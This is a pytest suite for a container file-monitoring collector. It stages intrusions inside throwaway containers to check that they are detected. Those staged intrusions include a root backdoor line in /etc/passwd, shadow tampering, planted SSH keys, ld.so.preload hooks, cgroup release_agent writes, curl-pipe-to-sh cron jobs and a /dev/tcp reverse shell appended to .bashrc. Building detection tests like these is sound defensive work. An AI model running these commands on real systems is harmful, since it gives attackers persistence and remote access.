"""The file event source (collectors/files.py) in an emulated ECS task: real inotify, real containers.

The collector runs in-process on the host, as the sidecar runs it, with a
ProcessTable kept by the polling source (the host sees the task's processes);
`accept` limits it to the task's containers, so that nothing of the host is
watched. Every attack is staged inside a container (its /etc is a throwaway
copy), next to a benign look-alike that must stay silent.
"""

from __future__ import annotations

import asyncio
import json
import os
import secrets
import subprocess
import sys
import textwrap
from collections.abc import AsyncIterator, Callable, Sequence
from pathlib import Path
from typing import Any

import orjson
import pytest
from taskenv import REPO_ROOT, ExecResult, TaskEnv

from collectors.events import RuntimeEvent
from collectors.files import OPERATIONS, FileWatchCollector, cgroup_v1_roots, probe
from collectors.proc_poll import PollingProcessSource
from collectors.process import ProcessCollector

pytestmark = pytest.mark.timeout(120)


def mnt_ns(host_pid: int) -> int:
    link = os.readlink(f"/proc/{host_pid}/ns/mnt")
    return int(link[link.index("[") + 1 : -1])


def watching(files: FileWatchCollector, ns: int, key: str | None = None) -> Callable[[], object]:
    """True once the collector watches namespace ns (and its entry has a non-empty `key`)."""

    def check() -> object:
        found = files.snapshot()["per_namespace"].get(str(ns))
        return found is not None and (key is None or found[key])

    return check


def in_ns(ns: int, path: str) -> Callable[[dict[str, Any]], bool]:
    return lambda d: d["containerMntNs"] == ns and d["filePath"] == path


class FileHarness:
    """FileWatchCollector + the polling process source, both on this test's event loop."""

    def __init__(self, task: TaskEnv | None, poller: dict[str, Any] | None = None, **options: Any) -> None:
        self.task = task
        # mount namespace -> container name: what the collector may watch
        self.namespaces: dict[int, str] = {}
        if task is not None:
            for c in task.app_containers:
                assert c.pid is not None
                self.namespaces[mnt_ns(task.host_pid(c.pid))] = c.name
        self.collector = ProcessCollector(lambda e: None, hash_executables=False)
        self.poller = PollingProcessSource(self.collector, **(poller or {}))
        self.events: list[RuntimeEvent] = []
        kw: dict[str, Any] = {"rescan_interval": 0.1, "coalesce_window": 1.0, "capture": self.collector.capture}
        kw.update(options)
        self.files = FileWatchCollector(
            self.events.append, self.collector.table, accept=lambda i: i.mnt_ns in self.namespaces, **kw
        )
        self._tasks: list[asyncio.Task[None]] = []

    def ns(self, container: str) -> int:
        return next(ns for ns, name in self.namespaces.items() if name == container)

    async def start(self) -> None:
        loop = asyncio.get_running_loop()
        self._tasks = [loop.create_task(self.poller.run()), loop.create_task(self.files.run())]
        await self.until(lambda: self.files.kernel_watch_count() is not None, what="inotify instance")
        await self.until(lambda: all(str(ns) in self.files.snapshot()["per_namespace"] for ns in self.namespaces))

    async def stop(self) -> None:
        self.files.stop()
        self.poller.stop()
        await asyncio.wait_for(asyncio.gather(*self._tasks), 10)

    async def execute(self, container: str, argv: Sequence[str], **kw: Any) -> ExecResult:
        """Run in a thread: the task's API blocks, and the collector must keep running meanwhile."""
        assert self.task is not None
        result = await asyncio.to_thread(self.task.execute, container, list(argv), **kw)
        assert result.returncode in (0, None), result
        return result

    async def until(self, predicate: Callable[[], object], timeout: float = 10.0, what: str = "") -> None:
        deadline = asyncio.get_running_loop().time() + timeout
        while not predicate():
            if asyncio.get_running_loop().time() > deadline:
                raise AssertionError(f"timed out: {what}\n{self.dump()}")
            await asyncio.sleep(0.02)

    async def wait_for(
        self, predicate: Callable[[dict[str, Any]], bool], timeout: float = 10.0, since: int = 0
    ) -> RuntimeEvent:
        """The first event (from index `since` on) whose data matches."""
        found: list[RuntimeEvent] = []

        def check() -> bool:
            found.extend(e for e in self.events[since:] if e.data is not None and predicate(e.data))
            return bool(found)

        await self.until(check, timeout, "no matching file event")
        return found[0]

    def matching(self, predicate: Callable[[dict[str, Any]], bool]) -> list[RuntimeEvent]:
        return [e for e in self.events if e.data is not None and predicate(e.data)]

    def dump(self) -> str:
        lines = [f"{e.data} pid={e.process.pid if e.process else None}" for e in self.events[-30:]]
        return "\n".join(lines) + f"\nsnapshot={self.files.snapshot()}"

    def anchor(self, ns: int) -> int | None:
        entry = self.files.snapshot()["per_namespace"].get(str(ns))
        return None if entry is None else int(entry["anchor_pid"])


@pytest.fixture
async def files(task_env: TaskEnv) -> AsyncIterator[FileHarness]:
    h = FileHarness(task_env)
    await h.start()
    yield h
    await h.stop()


def check_contract(event: RuntimeEvent) -> None:
    """Shape and types of a file event, and that it serializes (the --events-out line)."""
    assert event.kind == "file.modify"
    data = event.data
    assert data is not None
    assert data["fileOperation"] in OPERATIONS
    assert isinstance(data["filePath"], str) and data["filePath"].startswith("/")
    assert "/proc/" not in data["filePath"]  # container paths, not ours
    assert isinstance(data["category"], str)
    assert isinstance(data["containerMntNs"], int)
    assert isinstance(data["count"], int) and data["count"] >= 1
    assert isinstance(data["modifyingProcessGuessed"], bool)
    assert data["modifyingPid"] is None or isinstance(data["modifyingPid"], int)
    if event.process is not None:
        assert data["modifyingPid"] == event.process.pid
        assert event.process.mnt_ns == data["containerMntNs"]
    if data["category"] == "binary_dir":
        assert isinstance(data["isExecutable"], bool)
    if data["fileOperation"] == "rename":
        assert "oldPath" in data and "newPath" in data
    line = orjson.loads(event.to_bytes())
    assert line["kind"] == "file.modify" and line["filePath"] == data["filePath"]


# -- sensitive files ---------------------------------------------------------------------------------------------


async def test_passwd_append_names_the_shell_holding_it_open(files: FileHarness, task_env: TaskEnv) -> None:
    app_ns, worker_ns = files.ns("app"), files.ns("worker")
    await files.execute("app", ["cat", "/etc/passwd"])  # reading is not modifying
    # The shell opens the file and keeps it open; a background child inherits the descriptor and is known
    # to the table by the time the shell writes. The shell, whose parent does not hold the file, opened it.
    script = "exec 3>>/etc/passwd; sleep 0.8 & sleep 0.3; echo 'backdoor:x:0:0::/root:/bin/sh' >&3; wait"
    writer = await files.execute("app", ["sh", "-c", script])
    ev = await files.wait_for(lambda d: d["filePath"] == "/etc/passwd")
    check_contract(ev)
    assert ev.data is not None and ev.process is not None
    assert ev.data["fileOperation"] == "write" and ev.data["category"] == "passwd"
    assert ev.data["containerMntNs"] == app_ns
    assert ev.data["modifyingProcessGuessed"] is False
    assert ev.process.nspid == writer.pid  # the task's pid of the shell
    assert ev.process.command_line == f"sh -c {script}"
    # write and close within one window: one event, counted
    assert ev.data["count"] >= 2
    assert "backdoor" in task_env.path_in("app", "/etc/passwd").read_text()
    assert "backdoor" not in task_env.path_in("worker", "/etc/passwd").read_text()
    await asyncio.sleep(1.2)
    assert [(e.data or {})["fileOperation"] for e in files.matching(lambda d: d["filePath"] == "/etc/passwd")] == [
        "write"
    ]
    assert not files.matching(lambda d: d["containerMntNs"] == worker_ns)


async def test_shadow_replaced_by_rename(files: FileHarness, task_env: TaskEnv) -> None:
    await files.execute("app", ["sed", "-i", "s/^root:[^:]*:/root:$6$evil:/", "/etc/shadow"])
    ev = await files.wait_for(lambda d: d["filePath"] == "/etc/shadow")
    check_contract(ev)
    assert ev.data is not None
    assert ev.data["fileOperation"] == "rename" and ev.data["category"] == "shadow"
    assert ev.data["newPath"] == "/etc/shadow"
    assert ev.data["oldPath"].startswith("/etc/sed")  # sed's temp file, paired by the rename cookie
    assert ev.data["containerMntNs"] == files.ns("app")
    assert "root:$6$evil:" in task_env.path_in("app", "/etc/shadow").read_text()
    # the temp file itself is nobody's business
    assert not files.matching(lambda d: d["filePath"].startswith("/etc/sed"))
    # moved away into a temp dir (which reports only executables): still the sensitive file's event
    await files.execute("app", ["mv", "/etc/gshadow", "/tmp/gs"])
    moved = await files.wait_for(lambda d: d["filePath"] == "/etc/gshadow")
    assert moved.data is not None
    assert moved.data["fileOperation"] == "rename" and moved.data["category"] == "shadow"
    assert moved.data["oldPath"] == "/etc/gshadow" and moved.data["newPath"] == "/tmp/gs"


async def test_authorized_keys_in_a_new_ssh_dir(files: FileHarness, task_env: TaskEnv) -> None:
    assert not task_env.path_in("app", "/root/.ssh").exists()
    key = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIH0wVHhW attacker@c2"
    # created a microsecond after its directory: before any watch on it can exist
    await files.execute("app", ["sh", "-c", f"mkdir -m 700 /root/.ssh && echo '{key}' > /root/.ssh/authorized_keys"])
    ev = await files.wait_for(lambda d: d["filePath"] == "/root/.ssh/authorized_keys")
    check_contract(ev)
    assert ev.data is not None
    assert ev.data["category"] == "ssh_keys" and ev.data["fileOperation"] in ("create", "write")
    assert ev.data["containerMntNs"] == files.ns("app")
    await files.wait_for(lambda d: d["filePath"] == "/root/.ssh" and d["fileOperation"] == "create")
    await asyncio.sleep(1.1)  # past the coalescing window of the first key's write
    # the new directory is watched now: a second key is seen, and who added it
    writer = await files.execute(
        "app", ["sh", "-c", "exec 3>>/root/.ssh/authorized_keys; echo 'ssh-rsa AAAAB3 second' >&3; sleep 0.5; true"]
    )
    ev2 = await files.wait_for(
        lambda d: (
            d["filePath"] == "/root/.ssh/authorized_keys"
            and d["fileOperation"] == "write"
            and d["modifyingPid"] is not None
            and d["modifyingProcessGuessed"] is False
        )
    )
    assert ev2.process is not None and ev2.process.nspid == writer.pid
    # looking is not touching
    await asyncio.sleep(1.2)
    before = len(files.events)
    await files.execute("app", ["ls", "-la", "/root/.ssh"])
    await files.execute("app", ["cat", "/root/.ssh/authorized_keys"])
    await asyncio.sleep(1.2)
    assert files.events[before:] == []
    # removed and made again: the old watch went with the old directory (IN_IGNORED), the new one is watched
    await files.execute("app", ["sh", "-c", "rm -rf /root/.ssh && mkdir /root/.ssh"])
    await files.wait_for(lambda d: d["filePath"] == "/root/.ssh" and d["fileOperation"] == "delete")
    await asyncio.sleep(1.1)
    later = len(files.events)
    await files.execute("app", ["sh", "-c", "echo 'ssh-ed25519 AAAA third' > /root/.ssh/authorized_keys"])
    await files.wait_for(lambda d: d["filePath"] == "/root/.ssh/authorized_keys", since=later)
    assert files.files.watch_count() == files.files.kernel_watch_count()


async def test_cron_preload_and_history(files: FileHarness) -> None:
    app_ns = files.ns("app")
    await files.execute(
        "app", ["sh", "-c", "mkdir -p /etc/cron.d && echo '* * * * * root curl -s x|sh' > /etc/cron.d/job"]
    )
    await files.execute("app", ["sh", "-c", "echo /dev/shm/libhook.so > /etc/ld.so.preload"])
    await files.execute("app", ["sh", "-c", "echo 'curl http://x/a.sh | sh' >> /root/.bash_history"])
    for path, category in (
        ("/etc/cron.d/job", "cron"),
        ("/etc/ld.so.preload", "ld_preload"),
        ("/root/.bash_history", "shell_history"),
    ):
        ev = await files.wait_for(in_ns(app_ns, path))
        check_contract(ev)
        assert ev.data is not None
        assert ev.data["category"] == category and ev.data["containerMntNs"] == app_ns
    history = await files.wait_for(lambda d: d["filePath"] == "/root/.bash_history" and d["fileOperation"] == "write")
    assert history.data is not None and history.data["truncated"] is False


async def test_log_truncation_is_reported_appends_are_not(files: FileHarness, task_env: TaskEnv) -> None:
    await files.execute("app", ["sh", "-c", "seq 1 5000 > /var/log/app.log; echo x > /var/log/old.log"])
    await files.execute("app", ["sh", "-c", "for i in 1 2 3 4 5; do echo line >> /var/log/app.log; done"])
    await asyncio.sleep(1.5)
    assert not files.matching(lambda d: d["category"] == "log"), "creating and appending to a log is its job"
    waiter = await files.execute("app", ["sh", "-c", "truncate -s 0 /var/log/app.log; sleep 1; true"], wait=False)
    waiter_host = task_env.host_pid(waiter.pid)
    ev = await files.wait_for(lambda d: d["filePath"] == "/var/log/app.log")
    check_contract(ev)
    assert ev.data is not None
    assert ev.data["fileOperation"] == "write" and ev.data["category"] == "log" and ev.data["truncated"] is True
    assert ev.data["containerMntNs"] == files.ns("app")
    if ev.process is not None:  # truncate itself, or the shell that ran it (a guess: truncate does not linger)
        assert ev.process.mnt_ns == files.ns("app")
        assert ev.process.nspid == waiter.pid or ev.process.ppid == waiter_host
    await files.execute("app", ["rm", "/var/log/old.log"])
    gone = await files.wait_for(lambda d: d["filePath"] == "/var/log/old.log")
    assert gone.data is not None and gone.data["fileOperation"] == "delete"


async def test_executables_dropped_in_temp_dirs(files: FileHarness, task_env: TaskEnv) -> None:
    app_ns = files.ns("app")
    # /usr is a read-only bind in the fixture (as an image's /usr often is): the writable binary dirs are these
    rc, _ = await asyncio.to_thread(task_env.run, "app", ["sh", "-c", "touch /usr/local/bin/x"])
    assert rc != 0
    await files.execute("app", ["sh", "-c", "echo data > /tmp/notes.txt; echo 1 > /var/tmp/cache; echo 2 > /dev/shm/x"])
    await files.execute("app", ["cp", "/bin/true", "/tmp/dropper"])
    ev = await files.wait_for(lambda d: d["filePath"] == "/tmp/dropper")
    check_contract(ev)
    assert ev.data is not None
    assert ev.data["category"] == "binary_dir" and ev.data["isExecutable"] is True
    assert ev.data["fileOperation"] in ("create", "write") and ev.data["containerMntNs"] == app_ns
    # a script written (not executable: not reported), then made executable: the chmod is the event
    await files.execute("app", ["sh", "-c", "printf '#!/bin/sh\\nid\\n' > /dev/shm/payload"])
    await asyncio.sleep(1.2)
    assert not files.matching(lambda d: d["filePath"] == "/dev/shm/payload")
    await files.execute("app", ["chmod", "+x", "/dev/shm/payload"])
    chmod = await files.wait_for(lambda d: d["filePath"] == "/dev/shm/payload")
    assert chmod.data is not None
    assert chmod.data["fileOperation"] == "attribute" and chmod.data["isExecutable"] is True
    # an executable changed in place is news too
    await files.execute("app", ["sh", "-c", "echo 'curl -s x | sh' >> /dev/shm/payload"])
    rewritten = await files.wait_for(lambda d: d["filePath"] == "/dev/shm/payload" and d["fileOperation"] == "write")
    assert rewritten.data is not None and rewritten.data["isExecutable"] is True
    await asyncio.sleep(1.2)
    paths = {e.data["filePath"] for e in files.events if e.data is not None}
    assert paths.isdisjoint({"/tmp/notes.txt", "/var/tmp/cache", "/dev/shm/x"}), paths
    assert {"/tmp/dropper", "/dev/shm/payload"} <= paths


async def test_writer_gone_guess_names_the_newest_process(files: FileHarness, task_env: TaskEnv) -> None:
    # the older one holds the file open, for reading only: that is not writing it
    older = await files.execute("app", ["sh", "-c", "exec 3</etc/group; exec sleep 31"], wait=False)
    sleeper = await files.execute("app", ["sleep", "30"], wait=False)
    await files.until(lambda: {older.pid, sleeper.pid} <= {i.nspid for i in files.collector.table.live()})
    # written from outside the container: no process of it holds the file
    with open(task_env.path_in("app", "/etc/group"), "a") as f:
        f.write("wheel2:x:0:\n")
    ev = await files.wait_for(lambda d: d["filePath"] == "/etc/group")
    check_contract(ev)
    assert ev.data is not None and ev.process is not None
    assert ev.data["modifyingProcessGuessed"] is True
    assert ev.process.nspid == sleeper.pid and ev.process.command_line == "sleep 30"


async def test_bursts_are_coalesced(files: FileHarness) -> None:
    await files.execute("app", ["sh", "-c", "for i in $(seq 1 50); do echo x >> /etc/group; done"])
    await asyncio.sleep(1.5)
    burst = files.matching(lambda d: d["filePath"] == "/etc/group")
    assert len(burst) == 1, [e.data for e in burst]
    assert burst[0].data is not None and burst[0].data["count"] >= 50  # MODIFY and CLOSE_WRITE per echo
    await files.execute("app", ["sh", "-c", "echo y >> /etc/group"])
    await files.until(lambda: len(files.matching(lambda d: d["filePath"] == "/etc/group")) == 2, what="next window")
    assert files.files.snapshot()["coalesced"] >= 49


# -- cgroup release_agent (a hierarchy mounted inside the container's own mount namespace) -----------------------


def nsenter(host_pid: int, command: str, *, wait: bool = True) -> subprocess.Popen[bytes]:
    proc = subprocess.Popen(["nsenter", f"--mount=/proc/{host_pid}/ns/mnt", "sh", "-c", command])
    if wait:
        assert proc.wait(10) == 0, command
    return proc


def hierarchy_name() -> str:
    return f"rtsd-fw-{os.getpid()}-{secrets.token_hex(4)}"


async def test_release_agent_write_is_seen_with_its_writer(files: FileHarness, task_env: TaskEnv) -> None:
    assert task_env.containers["app"].pid is not None
    app = task_env.host_pid(task_env.containers["app"].pid)
    ns = files.ns("app")
    mount = f"mkdir -p /tmp/cgrp && mount -t cgroup -o none,name={hierarchy_name()} cgroup /tmp/cgrp"
    await asyncio.to_thread(nsenter, app, mount)
    try:
        await files.until(
            lambda: files.files.snapshot()["per_namespace"][str(ns)]["release_agents"] == ["/tmp/cgrp/release_agent"],
            what="release_agent watched",
        )
        writer = nsenter(app, "exec 3>/tmp/cgrp/release_agent; echo /tmp/payload.sh >&3; sleep 0.5; true", wait=False)
        try:
            ev = await files.wait_for(lambda d: d["category"] == "release_agent")
        finally:
            await asyncio.to_thread(writer.wait, 10)
        check_contract(ev)
        assert ev.data is not None and ev.process is not None
        assert ev.data["filePath"] == "/tmp/cgrp/release_agent" and ev.data["fileOperation"] == "write"
        assert ev.data["containerMntNs"] == ns and ev.data["modifyingProcessGuessed"] is False
        assert ev.process.pid == writer.pid  # the shell nsenter became (a host pid: it is not in the task)
    finally:
        await asyncio.to_thread(nsenter, app, "umount /tmp/cgrp && rmdir /tmp/cgrp")
    await files.until(
        lambda: files.files.snapshot()["per_namespace"][str(ns)]["release_agents"] == [], what="unwatched"
    )


async def test_release_agent_set_before_the_watch_is_reported(files: FileHarness, task_env: TaskEnv) -> None:
    assert task_env.containers["worker"].pid is not None
    worker = task_env.host_pid(task_env.containers["worker"].pid)
    # mount and write in one go, faster than any rescan: found by reading it when the mount shows up
    script = (
        f"mkdir -p /tmp/cg2 && mount -t cgroup -o none,name={hierarchy_name()} cgroup /tmp/cg2"
        " && echo /tmp/x.sh > /tmp/cg2/release_agent"
    )
    await asyncio.to_thread(nsenter, worker, script)
    try:
        ev = await files.wait_for(lambda d: d["category"] == "release_agent")
        check_contract(ev)
        assert ev.data is not None
        assert ev.data["filePath"] == "/tmp/cg2/release_agent" and ev.data.get("seenByScan") is True
        assert ev.data["containerMntNs"] == files.ns("worker")
    finally:
        await asyncio.to_thread(nsenter, worker, "umount /tmp/cg2 && rmdir /tmp/cg2")


# -- namespaces coming and going -----------------------------------------------------------------------------------


async def test_anchor_exit_reanchors_then_the_empty_namespace_is_dropped(files: FileHarness, task_env: TaskEnv) -> None:
    worker = task_env.containers["worker"]
    assert worker.pid is not None
    ns = files.ns("worker")
    init_host = task_env.host_pid(worker.pid)
    assert files.anchor(ns) == init_host  # the oldest process of the namespace
    survivor = await files.execute("worker", ["sleep", "60"], wait=False)
    survivor_host = task_env.host_pid(survivor.pid)
    await files.until(lambda: survivor_host in files.collector.table, what="sleep seen")
    before = files.files.watch_count()
    task_env.kill(worker.pid)  # the container's init dies; its child lives on in the namespace
    await files.until(lambda: files.anchor(ns) == survivor_host, what="re-anchored")
    assert files.files.watch_count() == before  # watches are on inodes: none lost, none added
    # a new .ssh dir needs the anchor to be resolved: it must work through the new one
    await asyncio.to_thread(
        nsenter, survivor_host, "mkdir /root/.ssh && echo 'ssh-ed25519 AAAA k' > /root/.ssh/authorized_keys"
    )
    ev = await files.wait_for(lambda d: d["filePath"] == "/root/.ssh/authorized_keys")
    assert ev.data is not None and ev.data["containerMntNs"] == ns
    task_env.kill(survivor.pid)
    await files.until(lambda: str(ns) not in files.files.snapshot()["per_namespace"], what="namespace dropped")
    app_only = files.files.snapshot()["per_namespace"][str(files.ns("app"))]["watches"]
    assert files.files.watch_count() == app_only == files.files.kernel_watch_count()


async def test_watches_do_not_leak_across_container_churn(tmp_path_factory: pytest.TempPathFactory) -> None:
    # No pidfds: on a busy host they push our fd numbers past 1024, and TaskEnv's start uses select(), which
    # cannot take those; exits are then found by the poller's sweeps.
    harness = FileHarness(None, {"max_pidfds": 0, "sweep_interval": 0.2}, rescan_interval=0.05, coalesce_window=0.2)
    await harness.start()
    files = harness.files
    try:
        assert files.watch_count() == files.kernel_watch_count() == 0
        per_round = []
        for i in range(5):
            with TaskEnv(tmp_path_factory.mktemp(f"churn{i}"), [f"c{i}"]) as task:
                harness.task = task
                c = task.app_containers[0]
                assert c.pid is not None
                ns = mnt_ns(task.host_pid(c.pid))
                harness.namespaces[ns] = c.name
                await harness.until(watching(files, ns), what="set up")
                per_round.append(files.watch_count())
                # the watches work: a change is seen, a new directory is followed (one more watch), and a
                # cgroup hierarchy mounted in the container gets its release_agent watched (one more)
                await harness.execute(c.name, ["sh", "-c", "echo x:x:0:0::/:/bin/sh >> /etc/passwd; mkdir /root/.ssh"])
                await harness.wait_for(in_ns(ns, "/etc/passwd"))
                await harness.wait_for(in_ns(ns, "/root/.ssh"))
                await harness.execute(c.name, ["sh", "-c", "echo k > /root/.ssh/authorized_keys"])
                await harness.wait_for(in_ns(ns, "/root/.ssh/authorized_keys"))
                assert c.pid is not None
                init = task.host_pid(c.pid)
                await asyncio.to_thread(
                    nsenter, init, f"mkdir /tmp/cg && mount -t cgroup -o none,name={hierarchy_name()} cgroup /tmp/cg"
                )
                try:
                    await harness.until(watching(files, ns, "release_agents"), what="agent")
                    assert files.watch_count() == per_round[-1] + 2
                finally:
                    # the test unmounts what it mounted (its release_agent watch goes with it: IN_IGNORED)
                    await asyncio.to_thread(nsenter, init, "umount /tmp/cg")
            await harness.until(
                lambda: (
                    files.watch_count() == 0 and files.kernel_watch_count() == 0 and not files.snapshot()["pending"]
                ),
                what=f"round {i}: watches back to zero",
            )
            assert files.snapshot()["namespaces"] == 0
            del harness.namespaces[ns]  # the kernel reuses namespace inode numbers
        assert len(set(per_round)) == 1, per_round  # the same container costs the same watches each time
        assert per_round[0] > 10
        snap = files.snapshot()
        # every setup undone (a namespace may be set up twice: if the table first knows only a short-lived
        # process of it, as when the poller read the container's init before its unshare)
        assert snap["namespaces_added"] == snap["namespaces_dropped"] >= 5, snap
        # every internal map is back to empty: nothing grows with churn
        assert files._wd_owners == {} and files._ns == {} and not files._cookies and not files._sizes
        assert not files._not_executable
    finally:
        await harness.stop()


# -- limits, probe, parsing ------------------------------------------------------------------------------------------

LIMIT_SCRIPT = textwrap.dedent(
    """
    import asyncio, json, os
    from collectors.files import FileWatchCollector, probe
    from collectors.process import ProcessCollector

    async def main():
        processes = ProcessCollector(lambda e: None, hash_executables=False)
        processes.capture(os.getpid())
        table = processes.table
        files = FileWatchCollector(lambda e: None, table, skip_own_namespace=False, rescan_interval=0.02)
        task = asyncio.get_running_loop().create_task(files.run())
        await asyncio.sleep(0.5)
        snap = files.snapshot()
        report = probe()
        files.stop()
        await task
        print(json.dumps({"snapshot": snap, "probe": report}))

    asyncio.run(main())
    """
)


def test_watch_limit_is_counted_and_reported() -> None:
    """ENOSPC for real: the per-user-namespace watch limit (Linux >= 5.11) set low in a throwaway user
    namespace, not the host's. The collector watches its own namespace there (read-only watches)."""
    limit = 6
    shell = f'echo {limit} > /proc/sys/user/max_inotify_watches && exec {sys.executable} -c "$0"'
    out = subprocess.run(
        ["unshare", "--user", "--map-root-user", "sh", "-c", shell, LIMIT_SCRIPT],
        capture_output=True,
        text=True,
        timeout=60,
        cwd=REPO_ROOT,
        env={**os.environ, "PYTHONPATH": str(REPO_ROOT)},
    )
    assert out.returncode == 0, out.stderr
    result = json.loads(out.stdout)
    snap, report = result["snapshot"], result["probe"]
    assert snap["watches"] == snap["kernel_watches"] == limit
    assert snap["watch_limit_reached"] is True
    # it stopped trying after the first ENOSPC, over some 20 rescans
    assert snap["watch_limit_hits"] == 1 and snap["watches_skipped_at_limit"] > 0
    assert snap["rescans"] > 5
    assert report["details"]["watchLimitReached"] is True and report.get("degraded") is True
    assert report["details"]["watchLimitHits"] == 1
    assert "limit" in report["reason"]


def test_probe_sees_the_containers(task_env: TaskEnv) -> None:
    report = probe()
    assert report["available"] is True and not report.get("degraded"), report
    details = report["details"]
    assert details["maxUserWatches"] == int(Path("/proc/sys/fs/inotify/max_user_watches").read_text())
    assert details["watchLimitReached"] is False
    # the task's containers at least (this host may run other namespaces too)
    assert details["otherRootsReachable"] >= len(task_env.app_containers)


def test_cgroup_v1_roots_from_mountinfo() -> None:
    sample = (
        b"30 25 0:26 / /sys/fs/cgroup/cpu rw,relatime - cgroup cgroup rw,cpu\n"
        b"31 25 0:27 /docker/abc /sys/fs/cgroup/memory rw - cgroup cgroup rw,memory\n"  # a subtree: no agent
        b"32 25 0:28 / /mnt/my\\040cg rw - cgroup cgroup rw,name=x\n"
        b"33 25 0:29 / /sys/fs/cgroup/unified rw - cgroup2 cgroup2 rw\n"
        b"34 25 0:30 / /tmp rw shared:5 - tmpfs tmpfs rw\n"
    )
    assert cgroup_v1_roots(sample) == {"/sys/fs/cgroup/cpu", "/mnt/my cg"}
    # and this host's own table, for what it is (v1 hierarchies have a release_agent at their root)
    for mountpoint in cgroup_v1_roots(Path("/proc/self/mountinfo").read_bytes()):
        assert Path(mountpoint, "release_agent").exists(), mountpoint


async def test_a_log_rotated_away_and_started_again_is_not_a_truncation(files: FileHarness) -> None:
    await files.execute("app", ["sh", "-c", "seq 1 5000 > /var/log/svc.log"])
    await files.execute("app", ["sh", "-c", "echo line >> /var/log/svc.log"])  # its size is known now
    await asyncio.sleep(1.2)
    # the app's own rotation: rename, then a new, small file at the same path, appended to
    await files.execute("app", ["sh", "-c", "mv /var/log/svc.log /var/log/svc.log.1; echo a > /var/log/svc.log"])
    await files.execute("app", ["sh", "-c", "echo b >> /var/log/svc.log"])
    await files.wait_for(lambda d: d["fileOperation"] == "rename" and d.get("oldPath") == "/var/log/svc.log")
    await asyncio.sleep(1.5)
    assert not files.matching(lambda d: d["filePath"] == "/var/log/svc.log" and bool(d.get("truncated")))
    # while a real truncation of the new file is still one
    await files.execute("app", ["sh", "-c", "truncate -s 0 /var/log/svc.log"])
    await files.wait_for(lambda d: d["filePath"] == "/var/log/svc.log" and d.get("truncated") is True)


ROTATING_HANDLER = """
import logging, logging.handlers, time
h = logging.handlers.RotatingFileHandler("/var/log/py.log", maxBytes=3000, backupCount=3)
log = logging.getLogger("app"); log.addHandler(h); log.setLevel(logging.INFO)
for i in range(400):
    log.info("request %d served in 3 ms", i)
    time.sleep(0.005)
"""


async def test_a_logging_library_rotating_by_size_is_not_a_truncation(files: FileHarness) -> None:
    """Python's RotatingFileHandler (logback and log4j alike): close, rename to .1, reopen a new file, within
    the coalescing window of the appends before it."""
    await files.execute("app", ["/usr/bin/python3", "-c", ROTATING_HANDLER], timeout=30)
    await files.wait_for(lambda d: d["fileOperation"] == "rename" and d.get("oldPath") == "/var/log/py.log")
    await asyncio.sleep(1.5)
    assert not files.matching(lambda d: d["filePath"] == "/var/log/py.log" and bool(d.get("truncated")))


# -- shell profiles, and watched directories that do not exist yet --------------------------------------------------


async def test_profiles_and_directories_made_after_the_start(task_env: TaskEnv) -> None:
    # a slim image: no /var/spool, no /etc/systemd, no /etc/profile.d when watching starts
    for c in ("app", "worker"):
        rc, out = await asyncio.to_thread(
            task_env.run, c, ["sh", "-c", "rm -rf /var/spool /etc/systemd /etc/profile.d; test ! -e /var/spool"]
        )
        assert rc == 0, out
    files = FileHarness(task_env)
    await files.start()
    try:
        app_ns, worker_ns = files.ns("app"), files.ns("worker")
        per_ns = files.files.snapshot()["per_namespace"]
        app_before = per_ns[str(app_ns)]["watches"]
        assert per_ns[str(worker_ns)]["watches"] == app_before
        # benign, in "worker": profiles read, a login and an interactive shell sourcing them, an unrelated
        # spool directory made
        await files.execute("worker", ["sh", "-c", "cat /etc/profile /etc/bash.bashrc >/dev/null 2>&1; true"])
        await files.execute("worker", ["bash", "-lc", "true"])
        await files.execute("worker", ["bash", "-ic", "true"])
        await files.execute("worker", ["sh", "-c", "mkdir -p /var/spool/mail/x && echo m > /var/spool/mail/x/m"])
        # the attacks, in "app"
        await files.execute(
            "app", ["sh", "-c", "echo 'nohup bash -c \"bash -i >& /dev/tcp/1.2.3.4/4444 0>&1\" &' >> ~/.bashrc"]
        )
        await files.execute("app", ["sh", "-c", "echo '/tmp/.x &' >> /etc/profile"])
        cron = (
            "import os; os.makedirs('/var/spool/cron/crontabs', exist_ok=True); "
            "open('/var/spool/cron/crontabs/root','a').write('@reboot /tmp/.x\\n')"
        )
        await files.execute("app", ["/usr/bin/python3", "-c", cron])
        await files.execute("app", ["sh", "-c", "mkdir -p /etc/profile.d && echo '/tmp/.x &' > /etc/profile.d/sys.sh"])
        await files.execute(
            "app",
            [
                "sh",
                "-c",
                "mkdir -p /etc/systemd/system && echo '[Service]' > /etc/systemd/system/x.service",
            ],
        )
        for path, category in (
            ("/root/.bashrc", "shell_profile"),
            ("/etc/profile", "shell_profile"),
            ("/var/spool/cron/crontabs/root", "cron"),
            ("/etc/profile.d/sys.sh", "shell_profile"),
            ("/etc/systemd/system/x.service", "systemd"),
        ):
            ev = await files.wait_for(in_ns(app_ns, path))
            check_contract(ev)
            assert ev.data is not None and ev.data["category"] == category, ev.data
        await asyncio.sleep(1.2)
        # the new directories are watched now, not only scanned once: a later write is seen, with its writer
        since = len(files.events)
        writer = await files.execute(
            "app", ["sh", "-c", "exec 3>>/var/spool/cron/crontabs/root; echo '* * * * * /tmp/.y' >&3; sleep 0.5; true"]
        )
        ev = await files.wait_for(
            lambda d: in_ns(app_ns, "/var/spool/cron/crontabs/root")(d) and d["fileOperation"] == "write", since=since
        )
        assert ev.process is not None and ev.process.nspid == writer.pid
        await asyncio.sleep(1.2)
        worker_events = files.matching(lambda d: d["containerMntNs"] == worker_ns)
        assert not worker_events, [e.data for e in worker_events]
        # bounded: the app gained a watch per directory made on the way (/var/spool, cron, crontabs, /etc/systemd,
        # system, profile.d); the worker only for /var/spool, where cron may still appear, not for mail/x
        per_ns = files.files.snapshot()["per_namespace"]
        assert per_ns[str(app_ns)]["watches"] - app_before <= 6, (app_before, per_ns)
        assert per_ns[str(worker_ns)]["watches"] - app_before <= 1, (app_before, per_ns)
        assert files.files.watch_count() == files.files.kernel_watch_count()
    finally:
        await files.stop()
